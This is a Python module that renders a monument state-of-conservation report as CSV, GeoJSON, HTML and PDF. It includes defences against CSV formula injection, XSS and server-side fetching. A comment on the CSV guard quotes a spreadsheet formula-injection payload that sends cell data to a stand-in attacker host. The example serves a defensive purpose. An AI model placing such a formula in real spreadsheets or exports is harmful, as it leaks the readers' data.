"""Rendering a state-of-conservation report as CSV, GeoJSON, HTML and PDF.

CSV uses the standard library's csv module; GeoJSON features are built with geojson-pydantic
(RFC 7946 models) with JSON-typed properties, not the CSV's text cells; HTML with Jinja2
(autoescaped) and PDF from that same HTML with WeasyPrint, so the printed and the on-screen
report cannot drift apart.
"""

import csv
import io
import json
import math
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from functools import lru_cache
from pathlib import Path
from typing import Any

from fastapi import Response
from geojson_pydantic import Feature, Point
from jinja2 import Environment, FileSystemLoader, select_autoescape

from app.assessments.models import DamageLevel
from app.reports.schemas import (
    UNASSESSED,
    MonumentEntry,
    ReportSource,
    StateOfConservationReport,
    level_or_unassessed,
)

# Every format a report is rendered in, by its `format=` name.
MEDIA_TYPES: dict[str, str] = {
    "json": "application/json",
    "csv": "text/csv; charset=utf-8",
    "geojson": "application/geo+json",
    "html": "text/html; charset=utf-8",
    "pdf": "application/pdf",
}
CSV_COLUMNS = [
    "as_of",
    "known_at",
    "monument_id",
    "name",
    "alt_names",
    "type",
    "period",
    "lat",
    "lon",
    "location_generalised",
    "damage_level",
    "extent_percent",
    "observed_on",
    "method",
    "confidence",
    "causes",
    "assessment_id",
    "damage_reached_after",
    "damage_reached_by",
    "disputed",
    "disputed_assessment_ids",
    "photos",
    "latest_photo_on",
    "restoration_feasibility",
    "restoration_approach",
    "restorable_percent",
    "restoration_priority",
    "restoration_prerequisites",
    "restoration_status",
    "estimated_cost_amount",
    "estimated_cost_currency",
    "waiting_on",
    "source_ids",
    "sources",
]
# The printable report holds everything it shows (styles inline, photos as data: URLs) and
# runs no script: its policy allows exactly that, so text that slipped through escaping could
# neither run, load anything, submit a form nor be framed. Styles must be inline: the
# colour swatches are style attributes.
REPORT_CSP = (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
    "form-action 'none'; frame-ancestors 'none'"
)


@dataclass(frozen=True)
class RenderedReport:
    """A report in one of its file formats, as it is sent."""

    body: bytes
    media_type: str
    file_name: str


def report_response(rendered: RenderedReport, format: str, headers: dict[str, str]) -> Response:
    """A report file as the API and the web pages alike send it: shown inline under its name,
    never sniffed, and HTML under `REPORT_CSP`; with the caller's caching `headers`."""
    headers = headers | {
        "Content-Disposition": f'inline; filename="{rendered.file_name}"',
        "X-Content-Type-Options": "nosniff",
    }
    if format == "html":
        headers["Content-Security-Policy"] = REPORT_CSP
    return Response(rendered.body, media_type=rendered.media_type, headers=headers)


# Colours of the damage scale, from intact to destroyed, and grey for no assessment.
LEVEL_COLOURS = {
    DamageLevel.no_visible_damage: "#1a9850",
    DamageLevel.possible_damage: "#a6d96a",
    DamageLevel.moderate_damage: "#fee08b",
    DamageLevel.severe_damage: "#f46d43",
    DamageLevel.destroyed: "#a50026",
    UNASSESSED: "#9e9e9e",
}


def _flat(report: StateOfConservationReport, entry: MonumentEntry) -> dict[str, object]:
    # The restoration columns are the plan of record's; statements never fill them.
    cited = {source.id: source for source in report.sources}
    condition, restoration = entry.condition, entry.restoration
    cost = restoration.estimated_cost if restoration else None
    window = condition.damage_window if condition else None
    return {
        "as_of": report.as_of.isoformat(),
        "known_at": report.known_at.isoformat() if report.known_at else "",
        "monument_id": entry.id,
        "name": entry.name,
        "alt_names": "; ".join(entry.alt_names),
        "type": entry.type,
        "period": entry.period or "",
        "lat": entry.lat,
        "lon": entry.lon,
        "location_generalised": entry.location_generalised,
        "damage_level": level_or_unassessed(condition),
        "extent_percent": ""
        if not condition or condition.extent_percent is None
        else condition.extent_percent,
        "observed_on": condition.observed_on.isoformat() if condition else "",
        "method": condition.method if condition else "",
        "confidence": condition.confidence if condition else "",
        "causes": "; ".join(condition.causes) if condition else "",
        "assessment_id": condition.assessment_id if condition else "",
        "damage_reached_after": window.after.isoformat() if window and window.after else "",
        "damage_reached_by": window.by.isoformat() if window else "",
        "disputed": condition.disputed if condition else False,
        "disputed_assessment_ids": "; ".join(map(str, condition.disputed_assessment_ids))
        if condition
        else "",
        "photos": entry.evidence.photos,
        "latest_photo_on": entry.evidence.latest_photo_on or "",
        "restoration_feasibility": (restoration.feasibility or "") if restoration else "",
        "restoration_approach": (restoration.approach or "") if restoration else "",
        "restorable_percent": ""
        if not restoration or restoration.restorable_percent is None
        else restoration.restorable_percent,
        "restoration_priority": (restoration.priority or "") if restoration else "",
        "restoration_prerequisites": "; ".join(restoration.prerequisites) if restoration else "",
        "restoration_status": restoration.status if restoration else "",
        "estimated_cost_amount": cost.amount if cost else "",
        "estimated_cost_currency": cost.currency if cost else "",
        "waiting_on": "; ".join(entry.waiting_on),
        "source_ids": "; ".join(str(source_id) for source_id in entry.source_ids),
        "sources": "; ".join(_citation(cited[source_id]) for source_id in entry.source_ids),
    }


def _citation(source: ReportSource) -> str:
    """A source in one line: `[n] title, publisher, date <url>`."""
    said = ", ".join(
        str(part) for part in (source.title, source.publisher, source.published_on) if part
    )
    return f"[{source.number}] {said}" + (f" <{source.url}>" if source.url else "")


# A spreadsheet takes a cell starting with one of these for a formula (OWASP's list):
# `=HYPERLINK("http://evil.example/?"&A1)` in a monument's name would run in the reader's
# spreadsheet. Such text cells are written with a leading apostrophe, which spreadsheets
# show as text and hide; numbers (a negative longitude) are left as they are.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """A CSV cell that no spreadsheet evaluates as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(report: StateOfConservationReport) -> bytes:
    """One row per monument, columns in a fixed order; UTF-8 with a byte-order mark so that
    spreadsheet programs show Arabic names intact; text never read as a formula."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    for entry in report.monuments:
        writer.writerow(
            {name: spreadsheet_safe(value) for name, value in _flat(report, entry).items()}
        )
    return buffer.getvalue().encode("utf-8-sig")


def _typed(report: StateOfConservationReport, entry: MonumentEntry) -> dict[str, object]:
    """A monument's line with JSON types, for GeoJSON: numbers as numbers, `null` where
    nothing is known, lists as arrays. GIS drivers (GDAL/OGR, so QGIS, pyogrio, Fiona) type
    each property once for the whole collection, from the values they see: an empty string
    among integers turns the column into text, so nothing here is ever `""` for "none"."""
    cited = {source.id: source for source in report.sources}
    condition, restoration = entry.condition, entry.restoration
    cost = restoration.estimated_cost if restoration else None
    window = condition.damage_window if condition else None

    def day(value: date | None) -> str | None:
        return value.isoformat() if value else None

    return {
        "as_of": report.as_of.isoformat(),
        "known_at": report.known_at.isoformat() if report.known_at else None,
        "monument_id": entry.id,
        "name": entry.name,
        "alt_names": list(entry.alt_names),
        "type": entry.type,
        "period": entry.period,
        "lat": entry.lat,
        "lon": entry.lon,
        "location_generalised": entry.location_generalised,
        "damage_level": level_or_unassessed(condition),
        "extent_percent": condition.extent_percent if condition else None,
        "observed_on": day(condition.observed_on) if condition else None,
        "method": condition.method if condition else None,
        "confidence": condition.confidence if condition else None,
        "causes": list(condition.causes) if condition else [],
        "assessment_id": condition.assessment_id if condition else None,
        "damage_reached_after": day(window.after) if window else None,
        "damage_reached_by": day(window.by) if window else None,
        "disputed": condition.disputed if condition else False,
        "disputed_assessment_ids": list(condition.disputed_assessment_ids) if condition else [],
        "photos": entry.evidence.photos,
        "latest_photo_on": day(entry.evidence.latest_photo_on),
        "restoration_feasibility": restoration.feasibility if restoration else None,
        "restoration_approach": restoration.approach if restoration else None,
        "restorable_percent": restoration.restorable_percent if restoration else None,
        "restoration_priority": restoration.priority if restoration else None,
        "restoration_prerequisites": list(restoration.prerequisites) if restoration else [],
        "restoration_status": restoration.status if restoration else None,
        # A number for GIS; amounts have few enough digits that the shortest float text is
        # the decimal as recorded (the JSON report keeps the exact decimal string).
        "estimated_cost_amount": float(Decimal(cost.amount)) if cost else None,
        "estimated_cost_currency": cost.currency if cost else None,
        "waiting_on": list(entry.waiting_on),
        "source_ids": list(entry.source_ids),
        "sources": [_citation(cited[source_id]) for source_id in entry.source_ids],
    }


def to_geojson(report: StateOfConservationReport) -> dict[str, Any]:
    """An RFC 7946 FeatureCollection: one Point per monument with typed properties, and the
    report's `as_of`, `known_at` and `provenance` as foreign members (RFC 7946 §6.1)."""
    features = [
        Feature(
            type="Feature",
            id=entry.id,
            geometry=Point(type="Point", coordinates=(entry.lon, entry.lat)),
            # Typed properties, and the names and identifiers whole.
            properties=_typed(report, entry)
            | {
                "names": [name.model_dump() for name in entry.names],
                "identifiers": [item.model_dump() for item in entry.identifiers],
            },
        ).model_dump(mode="json")
        for entry in report.monuments
    ]
    return {
        "type": "FeatureCollection",
        "as_of": report.as_of.isoformat(),
        "known_at": report.known_at.isoformat() if report.known_at else None,
        "provenance": report.provenance.model_dump(mode="json"),
        "features": features,
    }


def geojson_bytes(collection: dict[str, Any]) -> bytes:
    """A GeoJSON document as sent: UTF-8, names in their own script."""
    return json.dumps(collection, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


@lru_cache
def _templates() -> Environment:
    return Environment(
        loader=FileSystemLoader(Path(__file__).parent / "templates"),
        autoescape=select_autoescape(["html"]),
        trim_blocks=True,
        lstrip_blocks=True,
    )


def project(
    positions: Sequence[tuple[float, float]], width: int, height: int, *, margin: int = 20
) -> list[tuple[float, float]]:
    """(lat, lon) positions as (x, y) in a `width`×`height` box: equirectangular, north up,
    with a margin, scaled so that the group fills the box."""
    if not positions:
        return []
    lats = [lat for lat, _ in positions]
    lons = [lon for _, lon in positions]
    # A degree of longitude shrinks with latitude; scale x so the map keeps true proportions.
    squeeze = math.cos(math.radians(sum(lats) / len(lats)))
    span = max((max(lons) - min(lons)) * squeeze, max(lats) - min(lats), 0.002)
    scale = (min(width, height) - 2 * margin) / span
    return [
        (
            round(margin + (lon - min(lons)) * squeeze * scale, 1),
            round(height - margin - (lat - min(lats)) * scale, 1),
        )
        for lat, lon in positions
    ]


def _map_points(report: StateOfConservationReport, width: int, height: int) -> list[dict]:
    """Monument positions projected into the map box, coloured by damage level."""
    positions = project([(m.lat, m.lon) for m in report.monuments], width, height)
    points = []
    for entry, (x, y) in zip(report.monuments, positions, strict=True):
        level = level_or_unassessed(entry.condition)
        points.append(
            {"x": x, "y": y, "colour": LEVEL_COLOURS[level], "name": entry.name, "level": level}
        )
    return points


def to_html(report: StateOfConservationReport, thumbnails: dict[int, str] | None = None) -> str:
    """A printable page: summary, bar chart, map, the per-monument table with each
    monument's latest photo (`thumbnails`: data URIs by monument id, embedded so the page
    needs nothing from outside)."""
    counts = report.summary.by_damage_level.model_dump()
    largest = max(counts.values()) or 1
    bars = [
        {"level": level, "count": count, "colour": LEVEL_COLOURS[level], "width": count / largest}
        for level, count in counts.items()
    ]
    return (
        _templates()
        .get_template("state_of_conservation.html")
        .render(
            report=report,
            bars=bars,
            points=_map_points(report, 480, 360),
            colours=LEVEL_COLOURS,
            level_of=level_or_unassessed,
            thumbnails=thumbnails or {},
            references={source.id: source.number for source in report.sources},
            monument_names={m.id: m.name for m in report.monuments},
            component_names={c.id: c.name for m in report.monuments for c in m.components},
            attribute_names={a.id: a.name for a in report.attributes},
        )
    )


def to_pdf(html: str) -> bytes:
    """The HTML report as PDF (WeasyPrint; the page holds no external resources)."""
    from weasyprint import HTML
    from weasyprint.urls import URLFetcher

    # The report embeds everything it shows (thumbnails as data: URLs); fetching anything
    # else would let stored text make the server issue requests or read local files.
    # WeasyPrint's own fetcher with only `data:` allowed skips every other URL (a plain
    # function as fetcher fails inside WeasyPrint ≥ 68 as soon as a fetch is refused).
    fetcher = URLFetcher(allowed_protocols={"data"}, timeout=1)
    return HTML(string=html, url_fetcher=fetcher).write_pdf()
